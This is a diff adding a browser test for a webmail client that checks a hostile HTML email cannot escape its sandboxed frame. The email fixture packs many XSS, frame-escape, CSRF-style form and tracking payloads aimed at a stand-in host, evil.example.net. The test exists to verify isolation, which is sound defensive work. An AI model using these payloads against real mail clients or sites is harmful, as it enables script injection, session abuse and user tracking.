@@ -317,3 +317,51 @@ for (const colorScheme of ["light", "dark"] as const) {
     },
   );
 }
+
+/** Ways out of a frame that the first hostile mail does not try. */
+const WILD = `From: evil@example.net
+To: ada@example.com
+Subject: Wild
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<html><head><base href="https://evil.example.net/" target="_top"><meta http-equiv="Content-Security-Policy" content="script-src *">
+<style>@import "https://evil.example.net/a.css";@font-face{font-family:x;src:url(//evil.example.net/f)}p{font-family:x;cursor:url(https://evil.example.net/c),auto}</style>
+</head><body onload="top.location='https://evil.example.net/'"><p>A wild message, quite readable.</p>
+<a id="top" target="_top" href="https://evil.example.net/top">Top</a> <a id="data" href="data:text/html,<script>alert(1)</script>">Data</a>
+<form id="f" action="/inbox/delete" method="post" target="_top"><input name="token"><button id="post">Post</button><button id="act" formaction="https://evil.example.net/">Away</button></form>
+<iframe srcdoc="<script>parent.parent.document.title='ran'</script>"></iframe><embed src="/api/v1/messages"><object data="/inbox"></object>
+<svg><a href="javascript:alert(1)"><text y="20">svg</text></a><image href="https://evil.example.net/i.svg"/><use href="https://evil.example.net/u.svg#x"/><foreignObject><img src=x onerror="document.title='ran'"></foreignObject><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/></svg>
+<video poster="https://evil.example.net/v" src="/api/v1/messages" autoplay onerror="document.title='ran'"></video><audio src="https://evil.example.net/a" autoplay></audio>
+<img srcset="https://evil.example.net/s 1x"><img src="cid:nothing@here"><picture><source srcset="https://evil.example.net/p"></picture><input type=image src="https://evil.example.net/in">
+<table background="https://evil.example.net/bg"><tr><td style="background:image-set(url(https://evil.example.net/set) 1x)">x</td></tr></table>
+<link rel=stylesheet href="https://evil.example.net/l.css"><link rel=dns-prefetch href="//evil.example.net"><script type=module>import("https://evil.example.net/m.js")</script>
+<math><mtext><mglyph><style><img src=x onerror="document.title='ran'"></style></mglyph></mtext></math><noscript><img src="https://evil.example.net/n"></noscript>
+</body></html>
+`;
+
+pageTest("a wild mail gets out of its frame by no door, with its pictures loaded neither", async (site) => {
+  const { page, store, url, left } = site, id = await store.deliver(WILD);
+  const asked: string[] = [], changes: string[] = [];
+  page.on("request", (request) => {
+    if (request.method() !== "GET" && request.method() !== "PATCH") changes.push(request.url());
+  });
+  page.on("response", (answer) => { // what the policy stops is a request to the browser, and gets no answer
+    if (answer.frame() !== page.mainFrame()) asked.push(new URL(answer.url()).pathname);
+  });
+  await page.goto(`${url}/inbox/${id}`);
+  const frame = page.frameLocator("iframe[name=message]");
+  await frame.getByText("A wild message, quite readable.").waitFor();
+  const opened: string[] = [];
+  page.context().on("page", (popup) => opened.push(popup.url()));
+  for (const door of ["#top", "#data", "#post", "#act"]) {
+    await frame.locator(door).click();
+    assertEquals(new URL(page.url()).pathname, `/inbox/${id}`, door);
+    await page.bringToFront();
+  }
+  await frame.getByText("A wild message, quite readable.").waitFor();
+  assertEquals([...new Set(asked)], [`/api/v1/messages/${id}/html`]);
+  assertEquals([changes, (await store.entries()).length], [[], 1]);
+  assertMatch(await page.title(), /Wild/);
+  assertEquals(left.filter((each) => each !== "https://evil.example.net/top"), []); // a link that somebody clicked
+});
